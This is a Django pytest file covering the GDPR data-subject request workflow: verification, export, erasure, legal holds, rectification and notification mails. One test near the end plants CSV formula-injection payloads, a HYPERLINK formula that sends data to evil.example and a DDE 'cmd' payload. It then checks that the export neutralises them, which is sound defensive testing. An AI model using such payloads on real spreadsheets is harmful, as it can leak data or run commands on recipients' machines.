"""The whole life of a request, through HTTP and the admin (as a requester and a DPO)."""

import csv
import datetime
import io
import json
import zipfile
from http import HTTPStatus

import pytest
from django.contrib.auth.models import User
from django.core import mail
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from consent.models import ConsentRecord, ConsentSubject
from privacy_portal.models import OutgoingEmail
from requests_app.dates import add_months
from requests_app.models import (
    ContactMessage,
    DataSubjectRequest,
    ErasureItem,
    ErasureNotice,
    LegalHold,
    ProcessingPurpose,
    Recipient,
    RequestEvent,
)
from tests.helpers import (
    ALICE,
    BOB,
    assert_mail_inert,
    change_form_data,
    hostile_name,
    link_in_mail,
    submit,
    submit_and_verify,
    visible_text,
)

pytestmark = pytest.mark.django_db

ADMIN = "/admin/requests_app/datasubjectrequest/"


def _visitor_with_consent() -> Client:
    """A browser that made a cookie decision (so it has a consent id)."""
    browser = Client()
    browser.post("/consent/", {"action": "accept_all", "scope": "prompt", "next": "/"})
    return browser


def _contact(client: Client, email: str, message: str) -> None:
    client.post("/contact/", {"name": "Someone", "email": email, "message": message})


@pytest.fixture
def people(demo_policy, deliver):
    """Alice and Bob, each with data in every app: a consent record linked through a
    verified request, a contact message, a staff account."""
    alice, bob = _visitor_with_consent(), _visitor_with_consent()
    _contact(alice, ALICE, "Alice asks about cookies.")
    _contact(bob, BOB, "Bob asks about newsletters.")
    bob_request = submit_and_verify(bob, deliver, email=BOB, name="Bob", kind="access")
    User.objects.create_user("alice-staff", ALICE, "pw", first_name="Alice", last_name="A")
    User.objects.create_user("bob-staff", BOB, "pw", first_name="Bob", last_name="B")
    return {"alice": alice, "bob": bob, "bob_request": bob_request}


def test_the_whole_flow(people, dpo_client, dpo, deliver, settings, tmp_path):
    settings.EXPORT_ROOT = tmp_path / "exports"
    alice = people["alice"]
    partner = Recipient.objects.create(name="Certified partner", kind="partner", contact="p@x.test")
    ProcessingPurpose.objects.get(slug="enquiries").recipients.add(partner)

    # The requester submits and gets a verification mail; nothing is queued yet.
    response = submit(alice, deliver, kind="erasure", name="Alice", details="Everything, please.")
    assert response.status_code == HTTPStatus.SEE_OTHER
    assert response.headers["Location"] == "/requests/new/sent/"
    request = DataSubjectRequest.objects.get(email=ALICE)
    assert request.status == DataSubjectRequest.Status.UNVERIFIED
    assert request.reference is None
    assert request.purpose.slug == "data-subject-requests"
    assert request.policy_version.number == 2
    assert dpo_client.get(f"{ADMIN}{request.pk}/change/").status_code == HTTPStatus.FOUND
    verification = mail.outbox[-1]
    assert verification.to == [ALICE]
    assert "confirm" in verification.subject.lower()
    verify_path = link_in_mail(verification, "/requests/verify/")

    # Following the link shows what is confirmed; confirming puts it in the queue.
    page = alice.get(verify_path)
    assert page.status_code == HTTPStatus.OK
    assert "Erasure of my data" in page.content.decode()
    with deliver():
        confirmed = alice.post(verify_path)
    assert confirmed.status_code == HTTPStatus.SEE_OTHER
    request.refresh_from_db()
    today = timezone.localdate()
    assert request.status == DataSubjectRequest.Status.VERIFIED
    assert request.reference == f"DSR-{today.year}-000002"  # Bob's was the first
    assert request.due_date == add_months(today, 1)
    acknowledgement = mail.outbox[-1]
    assert request.reference in acknowledgement.subject
    assert request.due_date.strftime("%Y") in acknowledgement.body
    status_page = alice.get(confirmed.headers["Location"])
    assert request.reference in status_page.content.decode()
    assert ConsentSubject.objects.filter(email=ALICE).exists()  # her consent id is linked

    # The DPO sees it in the queue with its due date, assigns it, extends the deadline.
    queue = dpo_client.get(ADMIN).content.decode()
    assert request.reference in queue
    dpo_client.post(ADMIN, {"action": "assign_to_me", "_selected_action": [request.pk]})
    request.refresh_from_db()
    assert request.assignee == dpo
    with deliver():
        extended = dpo_client.post(
            f"{ADMIN}{request.pk}/extend/", {"months": "2", "reason": "Data spread over archives."}
        )
    assert extended.status_code == HTTPStatus.FOUND
    request.refresh_from_db()
    assert request.due_date == add_months(request.original_due_date, 2)
    assert "Data spread over archives." in mail.outbox[-1].body

    # Export: every registered app's records for Alice, and nobody else's.
    with deliver():
        dpo_client.post(ADMIN, {"action": "build_export", "_selected_action": [request.pk]})
    ready = mail.outbox[-1]
    download_path = link_in_mail(ready, "/requests/download/")
    download = alice.get(download_path)
    assert download.status_code == HTTPStatus.OK
    assert download.headers["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    names = set(archive.namelist())
    assert {"README.html", "data.json"} <= names
    document = json.loads(archive.read("data.json"))
    sources = {record["source"] for record in document["records"]}
    assert sources >= {
        "Data-subject requests",
        "Contact messages",
        "Cookie consent records",
        "Consent ids linked to you",
        "Staff accounts",
        "E-mails we sent you",
    }
    everything = archive.read("data.json").decode()
    assert ALICE in everything
    assert BOB not in everything
    assert "Bob asks" not in everything
    assert "Alice asks about cookies." in everything
    for record in document["records"]:
        assert record["purpose"] in document["purposes"]
    enquiries = document["purposes"]["enquiries"]
    assert enquiries["legal_basis"] == "Legitimate interests (Art. 6(1)(f))"
    assert enquiries["recipients"] == "Certified partner"
    assert enquiries["retention"]
    assert enquiries["source"] == "You"
    contact_csv = archive.read("csv/contact-messages.csv").decode()
    assert "Alice asks about cookies." in contact_csv
    assert "Legitimate interests" in contact_csv
    assert "Alice asks about cookies." in archive.read("README.html").decode()
    request.refresh_from_db()
    assert (settings.EXPORT_ROOT / request.export_file).is_file()  # outside any public path

    # The link stops working when it expires, and the purge deletes the file.
    DataSubjectRequest.objects.filter(pk=request.pk).update(
        export_expires_at=timezone.now() - datetime.timedelta(minutes=1)
    )
    assert alice.get(download_path).status_code == HTTPStatus.GONE
    export_file = settings.EXPORT_ROOT / request.export_file
    assert export_file.exists()
    with deliver():  # the file goes once the purge has committed
        call_command("purge_expired", stdout=io.StringIO())
    assert not export_file.exists()

    # Erasure: every registered record of Alice's is gone or anonymised; Bob's are intact.
    alice_consents = list(
        ConsentRecord.objects.filter(
            consent_id__in=ConsentSubject.objects.filter(email=ALICE).values("consent_id")
        ).values_list("pk", flat=True)
    )
    bob_records = (
        ContactMessage.objects.filter(email=BOB).count(),
        ConsentSubject.objects.filter(email=BOB).count(),
        User.objects.get(username="bob-staff").email,
    )
    erase = dpo_client.post(f"{ADMIN}{request.pk}/erase/")
    assert erase.status_code == HTTPStatus.FOUND
    assert not ContactMessage.objects.filter(email__iexact=ALICE).exists()
    assert not ConsentSubject.objects.filter(email__iexact=ALICE).exists()
    assert ConsentRecord.objects.filter(pk__in=alice_consents).count() == len(alice_consents)
    staff = User.objects.get(pk=User.objects.get(username__startswith="erased-").pk)
    assert (staff.email, staff.first_name, staff.is_active) == ("", "", False)
    assert not OutgoingEmail.objects.filter(to__iexact=ALICE, status="sent").exists()
    assert (
        ContactMessage.objects.filter(email=BOB).count(),
        ConsentSubject.objects.filter(email=BOB).count(),
        User.objects.get(username="bob-staff").email,
    ) == bob_records
    outcomes = {(i.record_type, i.outcome) for i in ErasureItem.objects.filter(request=request)}
    assert ("Contact message", "deleted") in outcomes
    assert ("Cookie consent record", "anonymised") in outcomes
    assert ("Staff account", "anonymised") in outcomes
    assert ("Data-subject request", "retained") in outcomes  # this very request, until closed
    notice = ErasureNotice.objects.get(request=request)
    assert notice.recipient == partner

    # The Art. 19 checklist is ticked off in the admin.
    change_page = dpo_client.get(f"{ADMIN}{request.pk}/change/")
    assert "Certified partner" in change_page.content.decode()
    prefix = change_page.context["inline_admin_formsets"][0].formset.prefix
    data = change_form_data(change_page, request, assignee=dpo.pk, **{f"{prefix}-0-notified": "on"})
    saved = dpo_client.post(f"{ADMIN}{request.pk}/change/", data)
    assert saved.status_code == HTTPStatus.FOUND, saved.context["errors"] if saved.context else ""
    notice.refresh_from_db()
    assert notice.notified_by == dpo

    # Completion: the requester is told, then the request itself is anonymised.
    with deliver():
        done = dpo_client.post(f"{ADMIN}{request.pk}/complete/", {"outcome": "All erased."})
    assert done.status_code == HTTPStatus.FOUND
    completed = mail.outbox[-1]
    assert completed.to == [ALICE]
    assert "complete" in completed.subject
    assert "We erased your personal data" in completed.body
    request.refresh_from_db()
    assert request.status == DataSubjectRequest.Status.COMPLETED
    assert (request.email, request.name, request.details) == ("", "", "")
    assert request.email_hash
    assert not OutgoingEmail.objects.filter(to__iexact=ALICE).exists()  # the last mail forgot her
    assert not RequestEvent.objects.filter(request=request, note__icontains="archives").exists()
    actions = list(request.events.values_list("action", flat=True))
    assert actions[:3] == ["submitted", "verified", "assigned"]
    assert {"extended", "export_built", "erased", "recipient_notified", "completed"} <= set(actions)
    assert all(e.actor == dpo for e in request.events.filter(action__in=["extended", "erased"]))
    assert DataSubjectRequest.objects.get(pk=people["bob_request"].pk).email == BOB


def test_a_legal_hold_keeps_the_records_it_covers(people, dpo_client, deliver, dpo):
    request = submit_and_verify(people["alice"], deliver, kind="erasure")
    LegalHold.objects.create(email=ALICE, reason="Pending claim 42", record_types="Contact message")

    dpo_client.post(f"{ADMIN}{request.pk}/erase/")

    assert ContactMessage.objects.filter(email=ALICE).exists()
    kept = ErasureItem.objects.get(request=request, record_type="Contact message")
    assert kept.outcome == "retained"
    assert "Pending claim 42" in kept.reason
    assert not ConsentSubject.objects.filter(email=ALICE).exists()  # not covered: erased


def test_an_erasure_that_fails_half_way_changes_nothing(people, dpo_client, deliver, settings):
    request = submit_and_verify(people["alice"], deliver, kind="erasure")
    settings.PERSONAL_DATA_SOURCES = ["tests.requests_app.failing.FailingSource"]
    before = (
        ContactMessage.objects.filter(email=ALICE).count(),
        ConsentSubject.objects.filter(email=ALICE).count(),
        User.objects.get(username="alice-staff").email,
        OutgoingEmail.objects.filter(to=ALICE).count(),
    )

    response = dpo_client.post(f"{ADMIN}{request.pk}/erase/", follow=True)

    assert "nothing was changed" in response.content.decode()
    assert "went away" in response.content.decode()
    assert (
        ContactMessage.objects.filter(email=ALICE).count(),
        ConsentSubject.objects.filter(email=ALICE).count(),
        User.objects.get(username="alice-staff").email,
        OutgoingEmail.objects.filter(to=ALICE).count(),
    ) == before
    assert not ErasureItem.objects.filter(request=request).exists()
    assert not request.events.filter(action="erased").exists()


def test_rectification_through_the_subject_view_is_recorded(people, dpo_client, deliver, dpo):
    request = submit_and_verify(people["alice"], deliver, kind="rectification", details="Name")
    message = ContactMessage.objects.get(email=ALICE)

    page = dpo_client.get(f"{ADMIN}{request.pk}/subject/")
    assert page.status_code == HTTPStatus.OK
    html = page.content.decode()
    assert "Alice asks about cookies." in html
    assert "Bob asks" not in visible_text(html)
    response = dpo_client.post(
        f"{ADMIN}{request.pk}/subject/",
        {"source": "Contact messages", "key": str(message.pk), "name": "Alice Liddell"},
    )

    assert response.status_code == HTTPStatus.FOUND
    message.refresh_from_db()
    assert message.name == "Alice Liddell"
    event = request.events.get(action="rectified")
    assert event.actor == dpo
    assert "'Someone' → 'Alice Liddell'" in event.note


def test_rectification_cannot_touch_someone_elses_record(people, dpo_client, deliver):
    request = submit_and_verify(people["alice"], deliver, kind="rectification", details="Name")
    bobs = ContactMessage.objects.get(email=BOB)

    dpo_client.post(
        f"{ADMIN}{request.pk}/subject/",
        {"source": "Contact messages", "key": str(bobs.pk), "name": "Hacked"},
    )

    bobs.refresh_from_db()
    assert bobs.name == "Someone"


def test_reject_with_a_reason_tells_the_requester(people, dpo_client, deliver):
    request = submit_and_verify(people["alice"], deliver, kind="access")

    without = dpo_client.post(f"{ADMIN}{request.pk}/reject/", {"reason": ""})
    assert without.status_code == HTTPStatus.OK
    with deliver():
        dpo_client.post(f"{ADMIN}{request.pk}/reject/", {"reason": "We hold no data on you."})

    request.refresh_from_db()
    assert request.status == DataSubjectRequest.Status.REJECTED
    assert "We hold no data on you." in mail.outbox[-1].body
    status = people["alice"].get(link_in_mail(mail.outbox[-1], "/requests/status/"))
    assert "We hold no data on you." in status.content.decode()


def test_extension_only_while_the_first_month_runs(people, dpo_client, deliver):
    request = submit_and_verify(people["alice"], deliver, kind="access")
    DataSubjectRequest.objects.filter(pk=request.pk).update(
        original_due_date=timezone.localdate() - datetime.timedelta(days=1),
        due_date=timezone.localdate() - datetime.timedelta(days=1),
    )
    sent = len(mail.outbox)

    response = dpo_client.post(f"{ADMIN}{request.pk}/extend/", {"months": "1", "reason": "Busy."})

    assert response.status_code == HTTPStatus.OK
    assert "The first month ended" in response.content.decode()
    request.refresh_from_db()
    assert request.due_date == timezone.localdate() - datetime.timedelta(days=1)
    assert len(mail.outbox) == sent


def test_extension_happens_once_with_a_reason_and_at_most_two_months(people, dpo_client, deliver):
    request = submit_and_verify(people["alice"], deliver, kind="access")
    url = f"{ADMIN}{request.pk}/extend/"

    assert "required" in dpo_client.post(url, {"months": "1", "reason": ""}).content.decode()
    assert dpo_client.post(url, {"months": "3", "reason": "x"}).status_code == HTTPStatus.OK
    with deliver():
        dpo_client.post(url, {"months": "1", "reason": "Complex."})
    again = dpo_client.post(url, {"months": "1", "reason": "More."})

    assert "already been extended" in again.content.decode()
    request.refresh_from_db()
    assert request.due_date == add_months(request.original_due_date, 1)


def test_an_erasure_keeps_the_persons_other_open_request_usable_and_alone(
    people, dpo_client, deliver, settings, tmp_path
):
    settings.EXPORT_ROOT = tmp_path
    alice = people["alice"]
    access = submit_and_verify(alice, deliver, kind="access")
    erasure = submit_and_verify(alice, deliver, kind="erasure")

    dpo_client.post(f"{ADMIN}{erasure.pk}/erase/")

    access.refresh_from_db()
    assert access.email == ALICE  # still open: kept until answered
    kept = ErasureItem.objects.get(request=erasure, record_key=str(access.pk))
    assert kept.outcome == "retained"
    with deliver():
        dpo_client.post(ADMIN, {"action": "build_export", "_selected_action": [access.pk]})
    zip_bytes = b"".join(
        Client().get(link_in_mail(mail.outbox[-1], "/requests/download/")).streaming_content
    )
    everything = zipfile.ZipFile(io.BytesIO(zip_bytes)).read("data.json").decode()
    assert BOB not in everything
    assert User.objects.get(username="bob-staff").email == BOB
    access.refresh_from_db()
    export = settings.EXPORT_ROOT / access.export_file

    with deliver():
        dpo_client.post(f"{ADMIN}{access.pk}/complete/", {})

    access.refresh_from_db()
    assert (access.email, access.export_file) == ("", "")  # the person was erased
    assert not export.exists()
    blank = dpo_client.post(
        ADMIN, {"action": "build_export", "_selected_action": [access.pk]}, follow=True
    )
    assert "can no longer be changed" in blank.content.decode()


def test_a_correction_with_nothing_filled_in_or_too_long_is_refused(people, dpo_client, deliver):
    request = submit_and_verify(people["alice"], deliver, kind="rectification", details="Name")
    message = ContactMessage.objects.get(email=ALICE)
    url = f"{ADMIN}{request.pk}/subject/"

    empty = dpo_client.post(
        url, {"source": "Contact messages", "key": str(message.pk)}, follow=True
    )
    long = dpo_client.post(
        url, {"source": "Requests", "key": str(request.pk), "name": "x" * 300}, follow=True
    )
    too_long = dpo_client.post(
        url,
        {"source": "Data-subject requests", "key": str(request.pk), "name": "x" * 300},
        follow=True,
    )

    assert empty.status_code == long.status_code == too_long.status_code == HTTPStatus.OK
    assert "Nothing to correct" in empty.content.decode()
    assert "Unknown data source" in long.content.decode()
    assert "at most 128 characters" in too_long.content.decode()
    request.refresh_from_db()
    assert request.name == "Alice"


def test_a_formula_planted_through_the_contact_form_is_text_in_the_victims_csv(
    demo_policy, dpo_client, deliver, settings, tmp_path
):
    # Anyone can write a contact message naming someone else's address; it is that
    # person's data, so it lands in their access export, which they open in a spreadsheet.
    settings.EXPORT_ROOT = tmp_path / "exports"
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    name = "\uff20SUM(1+1)*cmd|' /C calc'!A0"  # a full-width "@", read as "@" by some
    sent = Client().post("/contact/", {"name": name, "email": ALICE, "message": formula})
    assert sent.status_code == HTTPStatus.SEE_OTHER
    alice = Client()
    request = submit_and_verify(alice, deliver, email=ALICE, name="Alice", kind="access")

    with deliver():
        dpo_client.post(ADMIN, {"action": "build_export", "_selected_action": [request.pk]})
    download = alice.get(link_in_mail(mail.outbox[-1], "/requests/download/"))

    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    sheets = {
        path: list(csv.reader(io.StringIO(archive.read(path).decode())))
        for path in archive.namelist()
        if path.endswith(".csv")
    }
    assert "csv/contact-messages.csv" in sheets
    header, *rows = sheets["csv/contact-messages.csv"]
    (row,) = [dict(zip(header, row, strict=True)) for row in rows]
    assert row["message"] == f"'{formula}"
    assert row["name"] == f"'{name}"
    signs = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width
    for path, cells in sheets.items():
        for cell in (cell for line in cells for cell in line):
            assert not cell.lstrip().startswith(signs), path
    # The JSON is not a spreadsheet: it keeps what was sent, exactly.
    (message,) = [
        record["data"]
        for record in json.loads(archive.read("data.json"))["records"]
        if record["source"] == "Contact messages"
    ]
    assert (message["message"], message["name"]) == (formula, name)
    # And the summary tells the requester why some cells start with an apostrophe.
    assert "starts with an apostrophe" in archive.read("README.html").decode()


def test_a_name_with_markup_arrives_as_plain_text_in_every_request_mail(
    client, demo_policy, deliver, dpo_client, settings, tmp_path
):
    settings.EXPORT_ROOT = tmp_path
    name = hostile_name()
    request = submit_and_verify(client, deliver, name=name)
    verification, acknowledgement = mail.outbox
    assert_mail_inert(
        verification, typed=name, subject="Please confirm your request", links=["/requests/verify/"]
    )
    reference = request.reference
    assert_mail_inert(
        acknowledgement,
        typed=name,
        subject=f"We received your request {reference}",
        links=["/requests/status/"],
    )

    with deliver():
        dpo_client.post(ADMIN, {"action": "start_work", "_selected_action": [request.pk]})
    assert_mail_inert(
        mail.outbox[-1],
        typed=name,
        subject=f"Your request {reference}: In progress",
        links=["/requests/status/"],
    )
    # What the DPO writes is shown as text too: a reason may quote what the requester sent.
    with deliver():
        dpo_client.post(f"{ADMIN}{request.pk}/extend/", {"months": "1", "reason": name})
    assert_mail_inert(
        mail.outbox[-1],
        typed=name,
        subject=f"We need more time for your request {reference}",
        links=["/requests/status/"],
    )
    with deliver():
        dpo_client.post(ADMIN, {"action": "build_export", "_selected_action": [request.pk]})
    assert_mail_inert(
        mail.outbox[-1],
        typed=name,
        subject=f"Your data is ready to download ({reference})",
        links=["/requests/download/"],
    )
    with deliver():
        dpo_client.post(f"{ADMIN}{request.pk}/complete/", {"outcome": name})
    assert_mail_inert(
        mail.outbox[-1],
        typed=name,
        subject=f"Your request {reference} is complete",
        links=["/requests/download/", "/requests/status/"],
    )

    rejected = submit_and_verify(Client(), deliver, name=name, email=BOB)
    with deliver():
        dpo_client.post(f"{ADMIN}{rejected.pk}/reject/", {"reason": name})
    assert_mail_inert(
        mail.outbox[-1],
        typed=name,
        subject=f"Your request {rejected.reference}",
        links=["/requests/status/"],
    )
